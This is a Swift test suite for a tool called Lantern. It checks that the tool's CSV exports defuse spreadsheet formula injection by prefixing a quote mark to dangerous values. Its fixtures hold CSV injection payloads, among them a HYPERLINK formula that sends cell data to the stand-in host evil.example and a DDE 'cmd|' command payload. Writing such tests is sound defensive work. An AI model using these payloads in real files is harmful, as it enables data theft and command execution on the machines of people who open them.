import CSV
import Foundation
import Testing
@testable import Lantern
@testable import LanternChecking
@testable import LanternLoading
@testable import LanternModel
@testable import LanternPlanning
@testable import LanternRendering
@testable import LanternWriting

/// Catalog and roster values that a spreadsheet would run as formulas reach `links.csv`,
/// `audit.csv` and `lantern links` as text: `'` before them, the field quoted (OWASP, "CSV
/// Injection"). Every other value is written exactly as before.
@Suite struct FormulaInjectionTests {
    /// Starts a spreadsheet reads as a formula, listed here apart from the code under test.
    static let formulaStarts: [Unicode.Scalar] = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]

    static func startsLikeAFormula(_ cell: String) -> Bool {
        cell.unicodeScalars.first.map(formulaStarts.contains) ?? false
    }

    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+8613900000002", "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3", "＝1+1", "＠cmd", "＋86 139", "－1", "=1+1", "+节令食品", "-Z-2",
    ]

    /// The minimal site with hostile values in every roster and catalog column that a CSV shows.
    static func hostileSite() throws -> TestSite {
        let site = try TestSite("minimal")
        try site.write("content/roster.csv", """
            id,name,department,gender,birthday,birthday_calendar,hire_date,city,email,phone,language,status,tags
            T001,"=HYPERLINK(""http://evil.example/?""&A1,""点击"")",研发部,F,,,,北京,li.jing@example.com,13900000001,zh-CN,active,
            T002,王强,市场部,M,,,,上海,@SUM(1+1)*cmd|' /C calc'!A0,+8613900000002,zh-CN,active,
            T003,-2+3,财务部,F,,,,广州,zhao.min@example.com,＋86 139,zh-CN,active,
            T004,＝1+1,生产部,M,,,,北京,＠cmd,－1,zh-CN,active,

            """)
        let catalog = try site.read("content/catalog.csv")
            .replacingOccurrences(of: "Z-1,肉粽礼盒,节令食品,", with: "Z-1,=1+1,+节令食品,")
            .replacingOccurrences(of: "Z-2,豆沙粽,", with: "-Z-2,豆沙粽,")
        try site.write("content/catalog.csv", catalog)
        return site
    }

    static func cells(_ data: Data) throws -> [[String]] {
        #expect(Array(data.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let reader = try CSVReader(string: String(decoding: data.dropFirst(3), as: UTF8.self), hasHeaderRow: false)
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(row) }
        return rows
    }

    /// Reads `data` back with the CSV library: no cell starts like a formula, and the cells that
    /// hold a hostile value hold it after a `'`; returns how many did.
    static func expectNeutralised(_ data: Data, sourceLocation: Testing.SourceLocation = #_sourceLocation) throws -> Int {
        var neutralised = 0
        for cell in try cells(data).joined() {
            #expect(!startsLikeAFormula(cell), "\(cell)", sourceLocation: sourceLocation)
            if cell.hasPrefix("'"), hostile.contains(String(cell.dropFirst())) { neutralised += 1 }
            #expect(!hostile.contains(cell), "\(cell) written as it is", sourceLocation: sourceLocation)
        }
        return neutralised
    }

    @Test func linksAndAuditHoldNoFormula() throws {
        let site = try Self.hostileSite()
        try site.build(today: "2026-06-10")
        let links = try Data(contentsOf: site.privateFolder.appending(path: "links.csv"))
        // T001 name; T002 email and phone; T003 name and phone; T004 name, email and phone.
        #expect(try Self.expectNeutralised(links) == 8)
        let rows = try Self.cells(links)
        #expect(rows.map { $0[0] } == ["id", "T001", "T002", "T003", "T004"])
        #expect(rows[1][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")")
        #expect(rows[2][3] == "'+8613900000002")
        // The URL and the ordinary values are untouched.
        #expect(rows[2][1] == "王强" && rows[2][4] == "m/\(site.token("T002"))/")

        let audit = try Data(contentsOf: site.privateFolder.appending(path: "audit.csv"))
        let auditRows = try Self.cells(audit)
        let themes = Set(auditRows.dropFirst().map { $0[0] }).count
        try #require(themes > 0)
        // Per theme: Z-1's name and category, and the sku -Z-2.
        #expect(try Self.expectNeutralised(audit) == 3 * themes)
        #expect(auditRows.contains { $0[1] == "Z-1" && $0[2] == "'=1+1" && $0[3] == "'+节令食品" })
        #expect(auditRows.contains { $0[1] == "'-Z-2" && $0[2] == "豆沙粽" })
        // The raw bytes: each such field is quoted, with the quote mark inside the quotes.
        let text = String(decoding: audit, as: UTF8.self)
        #expect(text.contains(",Z-1,\"'=1+1\",\"'+节令食品\","))
    }

    @Test func lanternLinksHoldsNoFormula() throws {
        let site = try Self.hostileSite()
        let options = BuildOptions(site: site.site, output: site.output, privateFolder: site.privateFolder,
                                   today: Day("2026-06-10")!, environment: ["LANTERN_SECRET": TestSite.secret])
        try site.build(today: "2026-06-10")
        let csv = try Links.export(options, format: .csv)
        #expect(try Self.expectNeutralised(csv) == 8)
        // JSON is not opened by a spreadsheet: the values stay as they are.
        let json = try JSONSerialization.jsonObject(with: Links.export(options, format: .json)) as? [[String: String]]
        #expect(json?.first { $0["id"] == "T003" }?["name"] == "-2+3")
    }

    @Test func everyFormulaStartIsNeutralisedAndNothingElse() throws {
        let dangerous = ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1", "=", "-"]
        let ordinary = ["1-2", "a=b", "张-三", " =1", "'=1", "−1", "﹦1", "", "13900000001", "li@example.com", "x@y"]
        let data = try ExcelCSV.data(header: ["v"], rows: (dangerous + ordinary).map { [$0] })
        let text = String(decoding: data.dropFirst(3), as: UTF8.self)
        let lines = text.components(separatedBy: "\r\n")
        // `\r=1` holds a line break, so it is quoted anyway; the rest are one line each.
        for value in dangerous {
            #expect(text.contains("\"'" + value + "\"\r\n"), "\(value)")
        }
        for value in ordinary where !value.isEmpty {
            #expect(lines.contains(value), "\(value) was changed")
        }
        #expect(try Self.cells(data).dropFirst().map { $0[0] } == dangerous.map { "'" + $0 } + ordinary)
    }

    @Test func ordinaryFilesAreWhatTheLibraryWrites() throws {
        // The minimal site holds no value that starts like a formula: its links.csv and
        // audit.csv are byte for byte what the CSV library's own writer makes of the same cells.
        let site = try TestSite("minimal")
        try site.build(today: "2026-06-10")
        for name in ["links.csv", "audit.csv"] {
            let data = try Data(contentsOf: site.privateFolder.appending(path: name))
            let rows = try Self.cells(data)
            #expect(rows.count > 1 && !rows.joined().contains { Self.startsLikeAFormula($0) || $0.hasPrefix("'") })
            let writer = try CSVWriter(stream: .toMemory(), newline: .crlf)
            for row in rows { try writer.write(row: row) }
            writer.stream.close()
            let body = try #require(writer.stream.property(forKey: .dataWrittenToMemoryStreamKey) as? Data)
            #expect(data == Data([0xEF, 0xBB, 0xBF]) + body + Data("\r\n".utf8), "\(name)")
        }
    }
}
